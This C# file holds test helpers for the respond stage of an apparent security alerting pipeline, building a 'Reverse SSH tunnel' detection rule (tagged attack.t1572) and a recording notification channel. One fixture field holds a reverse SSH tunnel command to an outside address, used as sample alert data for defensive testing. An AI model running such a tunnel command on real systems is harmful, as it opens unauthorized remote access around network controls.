using AlertPipeline.Core.Detect;
using AlertPipeline.Core.Events;
using AlertPipeline.Core.Respond;
using AlertPipeline.Core.Respond.Channels;

namespace AlertPipeline.Core.Tests.Respond;

/// <summary>Shared builders for respond-stage tests.</summary>
internal static class RespondTestKit
{
    public static readonly DateTimeOffset T0 = new(2025, 11, 14, 3, 20, 0, TimeSpan.Zero);

    public static ActiveRule Rule(AlertLevel level, RuleMode mode = RuleMode.Enforce, string id = "6f1c2a0e-0000-4000-8000-000000000001")
        => new("default", new CompiledRule(id, "Reverse SSH tunnel", level, new MatchAll()) { Tags = ["attack.t1572"] }, mode);

    public static AlertCandidate Candidate(ActiveRule rule, string sandbox, params (string Stream, long Seq, int Rec, int SecondsAfterT0)[] events)
    {
        var candidate = new AlertCandidate(AlertIds.For(rule.Rule.Id, sandbox, T0, TimeSpan.FromHours(1)), rule, sandbox,
            new Dictionary<string, string> { ["process.command_line"] = "ssh -R 2222:localhost:22 x@203.0.113.66" });
        foreach (var (stream, seq, rec, seconds) in events)
        {
            candidate.Events.Add(new MatchedEvent(new SourcePosition(stream, seq, rec), T0.AddSeconds(seconds)));
        }

        return candidate;
    }

    private sealed class MatchAll : EventMatcher
    {
        public override bool Matches(EventBatch batch, int index) => true;
    }
}

/// <summary>A channel that records what it was asked to send and answers with a scripted result.</summary>
internal sealed class RecordingChannel(string name, Func<Alert, ChannelResult>? answer = null) : INotificationChannel
{
    public List<string> Sent { get; } = [];

    public string Name => name;

    public Task<ChannelResult> SendAsync(Alert alert, CancellationToken cancellationToken)
    {
        Sent.Add(alert.AlertId);
        return Task.FromResult(answer?.Invoke(alert) ?? ChannelResult.Sent("ok"));
    }
}
